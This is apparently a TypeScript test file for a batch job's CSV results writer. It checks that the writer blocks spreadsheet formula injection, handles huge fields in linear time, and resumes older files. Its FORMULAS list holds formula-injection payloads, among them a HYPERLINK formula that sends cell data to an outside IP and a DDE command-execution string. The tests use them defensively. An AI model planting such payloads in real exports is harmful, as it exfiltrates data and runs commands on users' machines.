import { appendFileSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { ResultFiles } from '../../client/batch';
import { type RowEnd } from '../../contracts/render/batch';
import { openStore, type Store } from '../../store';
import { AT } from '../support/ledger-fixtures';
import { temporaryFolder } from '../support/temporary-folder';

const TEXT = { mediaType: 'text/plain', durationSeconds: null, width: null, height: null };

/** Texts that spreadsheets read as formulas, some behind characters that they skip. */
const FORMULAS = [
  '=HYPERLINK("http://198.51.100.7/?"&A1;"open")',
  "+1+cmd|' /C calc'!A0",
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '|calc',
  'a;=1+1',
  'a\t=1+1',
  'a",=1+1',
  'a\u2028=1+1',
];

describe('the table of results', () => {
  let store: Store;
  let folder: string;
  beforeEach(async () => {
    const base = await temporaryFolder();
    folder = join(base, 'out');
    store = await openStore(join(base, 'store'));
  });

  async function open(): Promise<ResultFiles> {
    const index = await store.putJson({});
    const begun = { run: 1, renderId: 'r', account: 'a', index, at: AT, parallel: 1, stopAfterFailures: null };
    return ResultFiles.open({ store, batchId: 'shop', begun, folder });
  }
  async function note(page: number, ends: readonly Partial<RowEnd>[]): Promise<void> {
    const plain = { digest: 'd', state: 'failed', parkedFor: null, take: 1, taskId: null, credits: null } as const;
    const rows = ends.map((end) => ({ ...plain, key: 'a', reason: null, asset: null, at: AT, ...end }));
    await store.batches.noteResults('shop', 1, page, rows);
  }
  const table = (): string => readFileSync(join(folder, 'results.csv'), 'utf8');

  it('is written in linear time: a text of two million spaces takes no hours', async () => {
    await note(1, [{ reason: `${' '.repeat(2_000_000)}x` }]);
    await (await open()).append();
    expect(table()).toContain('x"');
  });

  it('has no formula in any cell, however a spreadsheet splits them', async () => {
    const ends = FORMULAS.map(async (words, index) => ({
      key: `r${index}`,
      reason: words,
      taskId: words,
      state: 'completed' as const,
      asset: await store.assets.putBytes(Buffer.from(words), TEXT),
    }));
    await note(1, await Promise.all(ends));
    await (await open()).append();

    // Each on a line of its own.
    expect(
      table()
        .trimEnd()
        .split(/[\r\n\v\f\u0085\u2028\u2029]/),
    ).toHaveLength(1 + FORMULAS.length);
    const lines = table().trimEnd().split('\n');
    // As split at commas, and by a program that knows only semicolons or tabs, and quotes only at the start of a line.
    const cells = [...parse(table()).flat(), ...lines.flatMap((line) => line.split(/[;\t]/))];
    const seen = cells.map((cell) => cell.normalize('NFKC').replace(/^[\s\p{C}"]*/u, ''));
    expect(seen.filter((cell) => /^[=+\-@|]/.test(cell))).toEqual([]);
    expect(table().split('\n').slice(1, -1).join('\n')).toMatch(/^("([^"\n]|"")*"(,|\n|$))*$/);
  });

  it('can be read back by any program, words and numbers', async () => {
    await note(1, [{ key: 'a', reason: 'He said "no", twice;\nthen left', credits: 12.5 }]);
    await (await open()).append();
    const [row] = parse<Record<string, string>>(table(), { columns: true });
    expect(row).toMatchObject({ key: 'a', reason: 'He said "no", twice; then left', credits: '12.5', text: '' });
  });

  it('is continued where it stopped, even one without quotes from an earlier version', async () => {
    await note(1, [{ key: 'a' }]);
    await (await open()).append();
    const [head = ''] = table().split('\n');
    writeFileSync(join(folder, 'results.csv'), `${head}\na,failed,,,,1,,,,,,,${AT},false\n`);
    appendFileSync(join(folder, 'results.csv'), 'b,fail');
    await note(2, [{ key: 'b' }]);
    await (await open()).append();
    const rows = parse<Record<string, string>>(table(), { columns: true });
    expect(rows.map(({ key, state }) => [key, state])).toEqual([
      ['a', 'failed'],
      ['b', 'failed'],
    ]);
    expect(readdirSync(folder).filter((name) => name.includes('kept'))).toEqual([]);
  });
});
